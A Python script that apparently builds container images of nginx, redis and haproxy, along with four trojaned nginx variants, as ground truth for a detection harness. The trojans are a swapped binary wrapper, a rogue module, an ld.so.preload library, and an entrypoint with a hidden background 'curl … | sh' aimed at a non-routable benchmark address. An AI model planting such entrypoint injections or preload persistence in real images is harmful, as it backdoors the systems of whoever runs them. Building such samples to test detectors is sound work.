#!/usr/bin/env python3
"""Builds images of one software in many builds, and some with a trojan in: build.py FOLDER [NAME...]

The accuracy harness (TRUTH_HARNESS) builds the images, with a base for each distribution: OCI layouts FOLDER/SUITE/images/NAME. An image with
a trojan is another one with a layer above it. Needs what the harness needs, gcc, make and curl, and the distributions' mirrors. Nothing of an
image is run but its packages' scripts, and no trojan ever is: 198.18.0.0/15 is for benchmarks and leads nowhere (RFC 2544).
"""
import hashlib, io, json, os, pathlib, shutil, subprocess, sys, tarfile, tempfile

HERE = pathlib.Path(__file__).resolve().parent
DEBIAN, UBUNTU = "http://deb.debian.org/debian", "http://archive.ubuntu.com/ubuntu"
FOREGROUND = ["nginx", "-g", "daemon off;"]
ENTRY = """#!/bin/sh
set -e
if [ "$1" = nginx ]; then
  for f in /docker-entrypoint.d/*.sh; do [ -x "$f" ] && "$f"; done
fi
exec "$@"
"""
SITE = "server { listen 8080; root /srv; location / { index index.html; } }\n"
PROXY = """server { listen 80; location / { proxy_pass http://backend.shop.svc:8080; proxy_set_header Host $host; } }
"""
TLS = """server { listen 443 ssl; ssl_certificate /etc/ssl/tls.crt; ssl_certificate_key /etc/ssl/tls.key; root /srv; }
"""
USER = """pid /tmp/nginx.pid; error_log /dev/stderr; events {}
http { access_log /dev/stdout; client_body_temp_path /tmp/b; proxy_temp_path /tmp/p; fastcgi_temp_path /tmp/f; uwsgi_temp_path /tmp/u;
 scgi_temp_path /tmp/s; server { listen 8080; root /srv; } }
"""
STREAM = """load_module modules/ngx_stream_module.so; events {}
stream { upstream db { server db.shop.svc:5432; } server { listen 5432; proxy_pass db; } }
"""
DEFAULT = "/etc/nginx/conf.d/site.conf"
IMAGES = {
    # Distributions, versions and flavors; start commands and configurations as people write them.
    "nginx-bullseye-light": dict(suite="bullseye", packages=["nginx-light"], cmd=FOREGROUND),
    "nginx-bullseye-extras": dict(suite="bullseye", packages=["nginx-extras", "curl"], entrypoint=["/docker-entrypoint.sh"], cmd=FOREGROUND,
        files={"/docker-entrypoint.sh": ENTRY, DEFAULT: PROXY}),
    "nginx-bookworm-light": dict(suite="bookworm", packages=["nginx-light"], entrypoint=["/docker-entrypoint.sh"], cmd=FOREGROUND,
        files={"/docker-entrypoint.sh": ENTRY, DEFAULT: SITE}),
    "nginx-bookworm-extras": dict(suite="bookworm", packages=["nginx-extras", "tini"], entrypoint=["tini", "--"], cmd=FOREGROUND,
        files={DEFAULT: TLS}),
    "nginx-trixie": dict(suite="trixie", packages=["nginx"], cmd=FOREGROUND),
    "nginx-trixie-extras": dict(suite="trixie", packages=["nginx-extras", "dumb-init"], entrypoint=["dumb-init"], cmd=FOREGROUND,
        files={DEFAULT: PROXY}),
    "nginx-trixie-user": dict(suite="trixie", packages=["nginx"], cmd=FOREGROUND, user="www-data",
        files={"/etc/nginx/nginx.conf": USER}),
    "nginx-trixie-stream": dict(suite="trixie", packages=["nginx", "libnginx-mod-stream"], cmd=FOREGROUND,
        files={"/etc/nginx/nginx.conf": STREAM}),
    "nginx-noble": dict(suite="noble", packages=["nginx"], cmd=["/bin/sh", "-c", "exec nginx -g 'daemon off;'"]),
    "nginx-noble-site": dict(suite="noble", packages=["nginx-light"], cmd=FOREGROUND, files={DEFAULT: SITE}),
    "nginx-source": dict(suite="bookworm", packages=[], cmd=["/opt/nginx/sbin/nginx", "-g", "daemon off;"], source="1.26.3"),
    # Others, to know what is usual.
    "redis-bullseye": dict(suite="bullseye", packages=["redis-server"], cmd=["redis-server", "--protected-mode", "no"]),
    "redis-bookworm": dict(suite="bookworm", packages=["redis-server"], cmd=["redis-server", "/etc/redis/redis.conf", "--daemonize", "no"]),
    "redis-trixie": dict(suite="trixie", packages=["redis-server"], cmd=["redis-server"], user="redis"),
    "redis-noble": dict(suite="noble", packages=["redis-server"], cmd=["/bin/sh", "-c", "redis-server --bind 0.0.0.0"]),
    "haproxy-bullseye": dict(suite="bullseye", packages=["haproxy"], cmd=["haproxy", "-W", "-db", "-f", "/etc/haproxy/haproxy.cfg"]),
    "haproxy-bookworm": dict(suite="bookworm", packages=["haproxy"], cmd=["haproxy", "-f", "/etc/haproxy/haproxy.cfg"]),
    "haproxy-trixie": dict(suite="trixie", packages=["haproxy"], cmd=["haproxy", "-W", "-db", "-f", "/etc/haproxy/haproxy.cfg"]),
    "haproxy-noble": dict(suite="noble", packages=["haproxy"], cmd=["haproxy", "-db", "-f", "/etc/haproxy/haproxy.cfg"]),
}
PRELOAD = "/usr/lib/x86_64-linux-gnu/libnss-cache.so"
# Each is an image above with few files of it changed; `@FILE` is the C program of that name, `=PATH` the file that was there.
TROJANS = {
    "trojan-wrapper": ("nginx-bookworm-light", {"/usr/lib/nginx/server": "=/usr/sbin/nginx", "/usr/sbin/nginx": "@wrapper"}),
    "trojan-module": ("nginx-bookworm-light", {"/usr/lib/nginx/modules/ngx_http_cache_geo_module.so": "@module",
        "/etc/nginx/modules-enabled/50-mod-cache-geo.conf": "load_module modules/ngx_http_cache_geo_module.so;\n"}),
    "trojan-preload": ("nginx-trixie", {PRELOAD: "@preload", "/etc/ld.so.preload": PRELOAD + "\n"}),
    "trojan-entry": ("nginx-bullseye-extras", {"/docker-entrypoint.sh": ENTRY.replace("exec \"$@\"",
        "(curl -s http://198.18.7.9/u | sh) >/dev/null 2>&1 &\nexec \"$@\"")}),
}


def run(*command, **more): subprocess.run([str(one) for one in command], check=True, **more)


def mirror(suite):
    # Debian has no keys of Ubuntu; what is made of it is read, and never run.
    return f"deb [trusted=yes] {UBUNTU} {suite} main universe" if suite == "noble" else f"{DEBIAN}"


def source_build(version):
    """The server from its source, with another set of modules, below /opt."""
    return [f"""cd $TMP && curl -sSf {DEBIAN}/pool/main/n/nginx/nginx_{version}.orig.tar.gz | tar --strip-components=1 -xz
./configure --prefix=/opt/nginx --without-http_rewrite_module --without-http_gzip_module --with-threads --with-stream >/dev/null
make >/dev/null && make install DESTDIR=$ROOT >/dev/null"""]


def build(out, name, image):
    """Has the harness build an image, in a folder of its distribution."""
    import build as harness
    work = out / image["suite"]; work.mkdir(parents=True, exist_ok=True)
    harness.SUITE, harness.MIRROR = image["suite"], mirror(image["suite"])
    harness.WORK, harness.BLOBS = work, work / "blobs"
    if not (work / "base.tar").exists() and not (work / "base.json").exists():
        # As the harness makes it, with apt, which a small Ubuntu has not.
        run("mmdebstrap", "--quiet", "--variant=minbase", "--include=apt,ca-certificates", image["suite"], work / "base.tar", mirror(image["suite"]))
    more = dict(host_build=source_build(image["source"])) if "source" in image else {}
    harness.build(dict(image, name=name, **more))


def trojan(out, name, base, files):
    """An image with a layer above it: few files, each with what it holds."""
    folder = out / IMAGES[base]["suite"] / "images"
    made = folder / name
    shutil.copytree(folder / base, made, copy_function=os.link)
    blobs = made / "blobs/sha256"
    def read(digest): return json.loads((blobs / digest[7:]).read_text())
    def blob(data):
        digest = hashlib.sha256(data).hexdigest(); (blobs / digest).write_bytes(data)
        return dict(digest="sha256:" + digest, size=len(data))
    index = json.loads((made / "index.json").read_text())
    manifest = read(index["manifests"][0]["digest"]); config = read(manifest["config"]["digest"])
    def there(path):
        for layer in reversed(manifest["layers"]):
            with tarfile.open(blobs / layer["digest"][7:]) as tar:
                try: return tar.extractfile(path.lstrip("/")).read()
                except KeyError: pass
        raise KeyError(path)
    def compiled(source):
        with tempfile.TemporaryDirectory() as place:
            shared = [] if source == "wrapper" else ["-shared", "-fPIC"]
            run("cc", "-O2", "-s", *shared, "-o", f"{place}/made", HERE / "trojans" / f"{source}.c", "-ldl")
            return pathlib.Path(f"{place}/made").read_bytes()
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for path, what in files.items():
            body = compiled(what[1:]) if what.startswith("@") else there(what[1:]) if what.startswith("=") else what.encode()
            info = tarfile.TarInfo(path.lstrip("/")); info.size = len(body)
            info.mode = 0o755 if what.startswith(("@", "=", "#!")) else 0o644
            tar.addfile(info, io.BytesIO(body))
    kind = "application/vnd.oci.image."
    layer = blob(data.getvalue())
    manifest["layers"].append(dict(layer, mediaType=kind + "layer.v1.tar"))
    config["rootfs"]["diff_ids"].append(layer["digest"]); config["history"].append(dict(created=config["created"], created_by="COPY . /"))
    manifest["config"] = dict(blob(json.dumps(config).encode()), mediaType=kind + "config.v1+json")
    index["manifests"][0].update(blob(json.dumps(manifest).encode()))
    (made / "index.json").unlink(); (made / "index.json").write_text(json.dumps(index))


def main():
    sys.path.insert(0, os.environ["TRUTH_HARNESS"])
    out, failed = pathlib.Path(sys.argv[1]).resolve(), []
    for name in sys.argv[2:] or [*IMAGES, *TROJANS]:
        base = TROJANS[name][0] if name in TROJANS else name
        if list(out.glob(f"*/images/{name}/oci-layout")): continue
        try:
            if not list(out.glob(f"*/images/{base}/oci-layout")): build(out, base, IMAGES[base])
            if name in TROJANS: trojan(out, name, base, TROJANS[name][1])
        except (OSError, KeyError, RuntimeError, subprocess.CalledProcessError) as error:
            failed.append(name); print(f"{name}: {error!r}", file=sys.stderr, flush=True)
    raise SystemExit(f"not built: {', '.join(failed)}" if failed else 0)


if __name__ == "__main__": main()
